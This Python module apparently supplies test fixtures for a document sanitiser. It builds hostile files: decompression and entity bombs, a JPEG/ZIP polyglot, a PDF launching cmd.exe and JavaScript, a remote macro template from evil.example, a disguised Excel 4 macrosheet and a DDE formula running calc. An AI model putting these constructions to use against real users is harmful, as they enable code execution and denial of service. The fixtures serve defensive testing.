"""Files that harm whoever opens them, made for real."""

import random
from functools import cache
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile

from PIL import Image

from tests.support.files import MB, RELATIONS, XLSX, document, paper, picture

SCAN = b"\xff\xda"


@cache
def endless(width: int = 9_000, height: int = 8_800, size: int = MB) -> bytes:
    """A flat progressive JPEG of 79 megapixels whose last scan comes again and again."""
    written = BytesIO()
    Image.new("L", (width, height), "gray").save(written, "JPEG", progressive=True, quality=30)
    whole = written.getvalue()
    begins, ends = whole.rindex(SCAN), len(whole) - 2
    scan = whole[begins:ends]
    return whole[:ends] + scan * max(size // len(scan), 1) + whole[ends:]


@cache
def bomb(size: int = 200 * MB) -> bytes:
    """A document whose heart is a few KB packed, and `size` bytes when it is unpacked."""
    return document("<w:p/>" * (size // 6))


def swelling_part() -> bytes:
    """A small document with one part that is a thousand times larger than it is packed."""
    return document(word__styles__xml=f"<x>{' ' * 5 * MB}</x>")


def swelling_parts() -> bytes:
    """A document of several parts, each within the bounds, and too large together."""
    piece = random.Random(7).randbytes(30).hex() + " " * 1_940
    part = f"<x>{piece * (9 * MB // len(piece))}</x>"
    return document(**{f"word__header{number}__xml": part for number in range(6)})


def many_coefficients() -> bytes:
    """A JPEG of twenty megapixels in several scans and full colours: more than can be kept."""
    written = BytesIO()
    picture = Image.new("RGB", (5_000, 4_000), "teal")
    picture.save(written, "JPEG", progressive=True, quality=30, subsampling=0)
    return written.getvalue()


def moving() -> bytes:
    """A PNG of fifty pictures."""
    frames = [Image.new("RGB", (20, 20), (n, 0, 0)) for n in range(50)]
    written = BytesIO()
    frames[0].save(written, "PNG", save_all=True, append_images=frames[1:])
    return written.getvalue()


def two_faced() -> bytes:
    """A photo that is a ZIP with a program, too."""
    written = BytesIO()
    with ZipFile(written, "w") as made:
        made.writestr("run.exe", b"MZ-program")
    return picture("JPEG", (300, 200)) + written.getvalue()


def launching() -> bytes:
    """A PDF that starts a program and a script when it is opened, and has a file within."""
    objects = (
        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(cmd.exe)>>"
        b"/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>",
        b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Resources<<>>"
        b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI(file:///x)>>>>]>>",
    )
    written = b"%PDF-1.7\n"
    for number, one in enumerate(objects, start=1):
        written += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    return written + b"trailer\n<</Size 4/Root 1 0 R>>\n%%EOF\n"


def hanging() -> bytes:
    """A PDF whose one page takes minutes to draw: colours flow over all of it time and again."""
    colours = b"<</FunctionType 2/Domain[0 1]/N 1/C0[1 0 0]/C1[0 0 1]>>"
    flowing = (
        b"/Shading<</S<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 300 200]/Function%b>>>>"
    )
    return paper(b"/S sh\n" * 100_000, flowing % colours)


def with_object() -> bytes:
    """A document with a program to click on."""
    relation = f'<Relationship Id="o" Type="{RELATIONS}/oleObject" Target="embeddings/a.bin"/>'
    return document("<w:object/>", relation, word__embeddings__a__bin=b"\xd0\xcf\x11\xe0")


def with_template() -> bytes:
    """A document that fetches its template, with macros, from elsewhere."""
    there = 'Target="http://evil.example/x.dotm" TargetMode="External"'
    return document("", f'<Relationship Id="t" Type="{RELATIONS}/attachedTemplate" {there}/>')


def with_field(*pieces: str) -> bytes:
    """A document with a field, its instruction in pieces."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return document(f"<w:p>{mark.format('begin')}{runs}{mark.format('end')}</w:p>")


def with_entities() -> bytes:
    """A document one part of which swells as it is read."""
    swells = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
    return document("", "", word__styles__xml=swells)


def rebuilt(change: dict[str, tuple[bytes, bytes]], **parts: bytes) -> bytes:
    """The plain sheet with words of its parts replaced, and parts put in."""
    written = BytesIO()
    with ZipFile(BytesIO(XLSX)) as plain, ZipFile(written, "w", ZIP_DEFLATED) as made:
        for name in plain.namelist():
            old, new = change.get(name, (b"", b""))
            content = plain.read(name)
            made.writestr(name, content.replace(old, new) if old else content)
        for name, part in parts.items():
            made.writestr(name.replace("__", "/") + ".xml", part)
    return written.getvalue()


def with_old_macros() -> bytes:
    """A sheet that is an Excel 4 macro sheet, under the name of a plain one."""
    plain = b"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
    return rebuilt({"[Content_Types].xml": (plain, b"application/vnd.ms-excel.macrosheet+xml")})


def with_printer(settings: bytes) -> bytes:
    """A sheet with what its printer is to do, as Excel keeps it."""
    rels = b'<Default Extension="rels"'
    kind = b"application/vnd.openxmlformats-officedocument.spreadsheetml.printerSettings"
    typed = b'<Default Extension="bin" ContentType="' + kind + b'"/>' + rels
    plain = rebuilt({"[Content_Types].xml": (rels, typed)})
    written = BytesIO(plain)
    with ZipFile(written, "a", ZIP_DEFLATED) as made:
        made.writestr("xl/printerSettings/printerSettings1.bin", settings)
    return written.getvalue()


def with_command() -> bytes:
    """A sheet with a formula that starts a program."""
    return rebuilt({"xl/worksheets/sheet1.xml": (b"<v>0</v>", b"<f>cmd|'/c calc'!A0</f><v>0</v>")})
